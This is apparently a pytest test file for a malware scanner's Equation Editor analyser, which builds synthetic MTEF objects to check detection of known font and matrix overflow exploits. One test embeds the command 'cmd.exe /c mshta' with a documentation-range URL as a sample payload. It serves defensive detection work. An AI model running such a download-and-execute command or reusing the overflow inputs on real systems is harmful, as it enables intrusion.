"""Equation Editor analyser: EQNOLEFILEHDR/MTEF parsing and CVE classification."""

from __future__ import annotations

import struct

import pytest

from aptcatch.capture.context import ArtifactContext, ItemState, Node
from aptcatch.capture.formats.equation import EquationAnalyzer, classify, parse_equation_native
from aptcatch.capture.limits import Limits
from aptcatch.capture.types import FileType

MTEF_HEAD = bytes([3, 1, 1, 3, 0x0A])


def native(records: bytes, head: bytes = MTEF_HEAD) -> bytes:
    mtef = head + records
    return struct.pack("<HIHIIIII", 0x1C, 0x00020000, 0xC1A3, len(mtef), 0, 0, 0, 0) + mtef


def font(name: bytes, nul: bool = True) -> bytes:
    return bytes([0x08, 0x5A, 0x5A]) + name + (b"\x00" if nul else b"")


def run(data: bytes, ftype: FileType = FileType.MTEF) -> tuple[ArtifactContext, ItemState]:
    node = Node("0", "eq", data, 0, None)
    node.type = ftype
    state = ItemState(limits=Limits())
    ctx = ArtifactContext(node, state, "equation")
    EquationAnalyzer().analyze(ctx)
    return ctx, state


def ids(state: ItemState) -> set[str]:
    return {f.id for f in state.findings}


def test_normal_equation_parses_clean() -> None:
    recs = b"\x0a\x01" + font(b"Times New Roman") + b"\x02\x82\x61\x00" + b"\x00\x00"
    info = parse_equation_native(native(recs))
    assert info.header["cbHdr"] == 0x1C and info.version == 3 and info.platform == 1
    assert info.records == 6 and [f.name for f in info.fonts] == [b"Times New Roman"]
    assert classify(info) == []
    _, state = run(native(recs))
    assert ids(state) == {"equation.object"}


@pytest.mark.parametrize(
    ("length", "expected"),
    [
        (0x2F, "equation.font_overflow_11882"),
        (0x30, "equation.font_overflow_11882"),
        (0x96, "equation.font_overflow_0802"),
        (0x24, "equation.malformed_mtef"),
    ],
)
def test_font_overflow_classes(length: int, expected: str) -> None:
    _, state = run(native(b"\x0a\x01" + font(b"A" * length)))
    assert expected in ids(state)


def test_matrix_overflow_0798() -> None:
    rows = cols = 0x7F
    parts = ((rows + 1) * 2 + 7) // 8 + ((cols + 1) * 2 + 7) // 8
    rec = bytes([0x05, 0, 0, 0, rows, cols]) + b"\x00" * parts + b"\x00"
    info = parse_equation_native(native(b"\x0a\x01" + rec))
    assert info.matrices == [(0x1C + 7, rows, cols)]
    _, state = run(native(b"\x0a\x01" + rec))
    assert "equation.matrix_overflow_0798" in ids(state)


def test_payload_strings_become_indicators() -> None:
    cmd = b"cmd.exe /c mshta http://203.0.113.7/a.hta &AAAA"
    ctx, state = run(native(b"\x0a\x01" + font(cmd + b"\x12\x0c\x43", nul=True)))
    assert "equation.font_overflow_11882" in ids(state)
    assert "equation.payload_strings" in ids(state)
    assert any(i.value.startswith("http://203.0.113.7/a.hta") for i in state.indicators)
    assert ctx.metadata["mtef_font_name_lengths"] == [len(cmd) + 3]


@pytest.mark.parametrize("cut", [0, 3, 0x1C, 0x1E, 0x21, 0x25, 0x40])
def test_truncated_and_garbage_never_raise(cut: int) -> None:
    data = native(b"\x0a\x01" + font(b"B" * 60))[:cut]
    info = parse_equation_native(data)
    assert isinstance(info.problems, list)
    _, state = run(data)
    assert "equation.object" in ids(state)


def test_unknown_records_reported_as_malformed() -> None:
    info = parse_equation_native(native(b"\x0a\x01\x0f\x0f\x0f"))
    assert info.problems and classify(info)[0].finding == "equation.malformed_mtef"


def test_bare_mtef_without_header() -> None:
    info = parse_equation_native(MTEF_HEAD + b"\x0a\x01" + font(b"C" * 50))
    assert info.version == 3 and classify(info)[0].finding == "equation.font_overflow_11882"


def test_cfb_equation_object_via_scanner(scanner: object) -> None:
    rtf_gen = pytest.importorskip("samplegen.rtf")
    from aptcatch.capture.engine import Scanner

    assert isinstance(scanner, Scanner)
    r = scanner.scan_bytes(rtf_gen.equation_object(48), name="eq.bin")
    assert r.type == FileType.OLE_EQUATION.value
    found = {f.id for f in r.findings}
    assert {"equation.object", "equation.font_overflow_11882"} <= found
    assert r.artifact.metadata["mtef_version"] == 3
    assert r.verdict == "malicious"
